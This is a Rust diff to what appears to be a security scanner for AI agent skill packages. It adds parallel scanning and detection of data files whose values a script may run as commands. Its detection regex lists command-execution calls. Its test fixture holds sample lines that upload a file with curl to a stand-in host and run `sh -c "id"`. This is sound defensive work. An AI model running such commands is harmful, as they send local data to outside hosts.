@@ -8,7 +8,8 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 
-use airlock_types::{FileKind, Inventory};
+use airlock_types::{FileKind, Inventory, InventoryEntry};
+use rayon::prelude::*;
 
 use crate::markdown::{segments, Segment};
 
@@ -58,24 +59,43 @@ fn language_of_runner(runner: &str) -> &'static str {
 
 /// Every file of the inventory that a command in the skill's instructions or shell scripts runs.
 pub fn executed(inventory: &Inventory, tree_root: &Path) -> Vec<Executed> {
+    // Files are independent: each read on any core.
+    let paths: std::collections::HashSet<&str> = inventory.files.iter().map(|f| f.path.as_str()).collect();
+    let mut out: Vec<Executed> = inventory
+        .files
+        .par_iter()
+        .flat_map_iter(|entry| executed_by(inventory, &paths, tree_root, entry))
+        .collect();
+    out.sort_by(|a, b| (&a.file, &a.by, a.line).cmp(&(&b.file, &b.by, b.line)));
+    out.dedup_by(|a, b| a.file == b.file);
+    out
+}
+
+/// The files of the inventory that the commands of one file (markdown or a shell script) run.
+fn executed_by(
+    inventory: &Inventory,
+    paths: &std::collections::HashSet<&str>,
+    tree_root: &Path,
+    entry: &InventoryEntry,
+) -> Vec<Executed> {
     let mut out = Vec::new();
-    for entry in &inventory.files {
+    {
         let shell_script = entry.kind == FileKind::Script && entry.language.as_deref() == Some("shell");
         let markdown = matches!(entry.kind, FileKind::SkillMd | FileKind::Markdown);
         if !shell_script && !markdown {
-            continue;
+            return out;
         }
         let Ok(file) = fs_err::File::open(tree_root.join(&entry.path)) else {
-            continue;
+            return out;
         };
         let mut bytes = Vec::new();
         if std::io::Read::read_to_end(&mut std::io::Read::take(file, MAX_READ), &mut bytes).is_err() {
-            continue;
+            return out;
         }
         let text = String::from_utf8_lossy(&bytes);
         let mut found = |line: u32, command: &str| {
             for (runner, path) in commands(command) {
-                if let Some(file) = resolve(inventory, &entry.path, &path) {
+                if let Some(file) = resolve(inventory, paths, &entry.path, &path) {
                     if file != entry.path {
                         out.push(Executed {
                             language: language_of_runner(&runner),
@@ -92,7 +112,7 @@ pub fn executed(inventory: &Inventory, tree_root: &Path) -> Vec<Executed> {
             for (i, l) in text.lines().enumerate() {
                 found(u32::try_from(i + 1).unwrap_or(u32::MAX), l);
             }
-            continue;
+            return out;
         }
         for segment in segments(&text, 1) {
             match segment {
@@ -116,8 +136,135 @@ pub fn executed(inventory: &Inventory, tree_root: &Path) -> Vec<Executed> {
             }
         }
     }
-    out.sort_by(|a, b| (&a.file, &a.by, a.line).cmp(&(&b.file, &b.by, b.line)));
+    out
+}
+
+static RUNS_SOMETHING: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(
+        r"\bsubprocess\.|\bos\.(system|popen|exec\w*|spawn\w*)\b|\bPopen\(|child_process|\bexecSync\(|\bspawn(Sync)?\(|\bexecFile(Sync)?\(|\bexec\(|\beval\(|\bIO\.popen|\bsystem\(|\bInvoke-Expression\b|\bsh\s+-c\b|\bbash\s+-c\b",
+    )
+    .ok()
+});
+
+/// Data a script of the skill loads and runs commands beside: a value of it may be the command.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Loaded {
+    /// The data file, as an inventory path.
+    pub file: String,
+    /// The script that names it and runs commands.
+    pub by: String,
+}
+
+/// Every data file of the skill (JSON, YAML, TOML, text) that a script of the skill names and that script runs
+/// commands or code (`cfg = json.loads(Path("config.json").read_text())` … `subprocess.run(cfg["report"])`): what
+/// such a file holds is what the script may run, so it is read as commands, not as data.
+pub fn loaded_and_run(inventory: &Inventory, tree_root: &Path) -> Vec<Loaded> {
+    let data: Vec<&str> = inventory
+        .files
+        .iter()
+        .filter(|f| matches!(f.kind, FileKind::Asset | FileKind::Other) && is_data_name(&f.path))
+        .map(|f| f.path.as_str())
+        .collect();
+    let mut out = Vec::new();
+    if data.is_empty() {
+        return out;
+    }
+    let Some(runs) = RUNS_SOMETHING.as_ref() else {
+        return out;
+    };
+    let skills: Vec<&str> = inventory
+        .files
+        .iter()
+        .filter(|f| f.kind == FileKind::SkillMd)
+        .map(|f| f.path.rsplit_once('/').map_or("", |(d, _)| d))
+        .collect();
+    let scripts: Vec<&InventoryEntry> = inventory
+        .files
+        .iter()
+        .filter(|f| f.kind == FileKind::Script)
+        .collect();
+    out = scripts
+        .par_iter()
+        .flat_map_iter(|entry| {
+            let mut found = Vec::new();
+            let Ok(file) = fs_err::File::open(tree_root.join(&entry.path)) else {
+                return found;
+            };
+            let mut bytes = Vec::new();
+            if std::io::Read::read_to_end(&mut std::io::Read::take(file, MAX_READ), &mut bytes).is_err() {
+                return found;
+            }
+            let text = String::from_utf8_lossy(&bytes);
+            if !runs.is_match(&text) {
+                return found;
+            }
+            for path in &data {
+                let name = path.rsplit('/').next().unwrap_or(path);
+                let named = ['"', '\'', '/', '`']
+                    .iter()
+                    .any(|q| text.contains(&format!("{q}{name}")) || text.contains(&format!("{name}{q}")));
+                if named && same_skill(&skills, &entry.path, path) {
+                    found.push(Loaded {
+                        file: (*path).to_owned(),
+                        by: entry.path.clone(),
+                    });
+                }
+            }
+            found
+        })
+        .collect();
+    out.sort_by(|a, b| (&a.file, &a.by).cmp(&(&b.file, &b.by)));
     out.dedup_by(|a, b| a.file == b.file);
+    out
+}
+
+/// Whether a file's name says it holds data a program loads.
+fn is_data_name(path: &str) -> bool {
+    let lower = path.to_ascii_lowercase();
+    [".json", ".yaml", ".yml", ".toml", ".txt", ".cfg", ".ini", ".conf"]
+        .iter()
+        .any(|e| lower.ends_with(e))
+}
+
+/// Whether two files belong to the same skill: the deepest folder with a SKILL.md above each is the same (a script
+/// names data of its own skill, not another's file of the same name).
+fn same_skill(skills: &[&str], script: &str, data: &str) -> bool {
+    let owner = |p: &str| {
+        skills
+            .iter()
+            .filter(|d| d.is_empty() || p.starts_with(&format!("{d}/")))
+            .max_by_key(|d| d.len())
+            .copied()
+    };
+    owner(script) == owner(data)
+}
+
+/// A data file's values, one line for each of its lines (so every finding keeps its line): a JSON line's strings
+/// that are values (`"sync": ["curl", "-s", "https://x"]` is `curl -s https://x`), a YAML or TOML line's value.
+pub fn values_as_commands(text: &str) -> String {
+    static STRING: LazyLock<Option<Regex>> =
+        LazyLock::new(|| Regex::new(r#""((?:[^"\\]|\\.)*)"\s*(:)?"#).ok());
+    static KEY: LazyLock<Option<Regex>> =
+        LazyLock::new(|| Regex::new(r#"^\s*(?:-\s+)?(?:[\w.-]+\s*[:=]\s*)?"#).ok());
+    let (Some(string), Some(key)) = (STRING.as_ref(), KEY.as_ref()) else {
+        return String::new();
+    };
+    let mut out = String::with_capacity(text.len());
+    for line in text.lines() {
+        let strings: Vec<_> = string.captures_iter(line).collect();
+        if strings.is_empty() {
+            let value = key.replace(line, "");
+            out.push_str(value.trim().trim_matches(['"', '\'']));
+        } else {
+            let values: Vec<String> = strings
+                .iter()
+                .filter(|c| c.get(2).is_none())
+                .map(|c| c[1].replace("\\\"", "\"").replace("\\\\", "\\"))
+                .collect();
+            out.push_str(&values.join(" "));
+        }
+        out.push('\n');
+    }
     out
 }
 
@@ -138,7 +285,12 @@ fn commands(line: &str) -> Vec<(String, String)> {
 /// The inventory path a command's path argument names, looked up from the commanding file's folder first, then as
 /// a path anywhere in the tree (skills name their files from the skill's folder, often behind a variable such as
 /// `${CLAUDE_SKILL_DIR}/` or `{baseDir}/`).
-fn resolve(inventory: &Inventory, by: &str, path: &str) -> Option<String> {
+fn resolve(
+    inventory: &Inventory,
+    paths: &std::collections::HashSet<&str>,
+    by: &str,
+    path: &str,
+) -> Option<String> {
     let parts: Vec<&str> = path
         .split('/')
         .skip_while(|p| p.contains(['$', '{', '}', '~']) || p.is_empty())
@@ -171,21 +323,17 @@ fn resolve(inventory: &Inventory, by: &str, path: &str) -> Option<String> {
     if tail.is_empty() {
         return None;
     }
+    if paths.contains(near.as_str()) {
+        return Some(near);
+    }
     let suffix = format!("/{tail}");
     let common = |p: &str| p.bytes().zip(by.bytes()).take_while(|(a, b)| a == b).count();
     inventory
         .files
         .iter()
-        .filter(|f| f.path == near)
-        .chain(
-            inventory
-                .files
-                .iter()
-                .filter(|f| f.path == tail || f.path.ends_with(&suffix))
-                .max_by_key(|f| common(&f.path)),
-        )
+        .filter(|f| f.path == tail || f.path.ends_with(&suffix))
+        .max_by_key(|f| common(&f.path))
         .map(|f| f.path.clone())
-        .next()
 }
 
 #[cfg(test)]
@@ -208,5 +356,16 @@ mod tests {
         assert_eq!(got(". notes/rc.txt")[0], (".".into(), "notes/rc.txt".into()));
         assert_eq!(got("npx tsx tools/a.data")[0].0, "npx tsx");
         assert!(got("Remember to use make for this.").is_empty());
+    }
+
+    #[test]
+    fn a_data_files_values_keep_their_lines() {
+        let json = "{\n  \"max\": 5,\n  \"sync\": [\"curl\", \"-F\", \"idx=@{index}\", \"https://x.example/c\"],\n  \"cmd\": \"sh -c \\\"id\\\"\"\n}\n";
+        assert_eq!(
+            values_as_commands(json),
+            "{\n\ncurl -F idx=@{index} https://x.example/c\nsh -c \"id\"\n}\n"
+        );
+        let yaml = "report:\n  - curl -s https://x.example/r\nname: \"tool\"\n";
+        assert_eq!(values_as_commands(yaml), "\ncurl -s https://x.example/r\ntool\n");
     }
 }
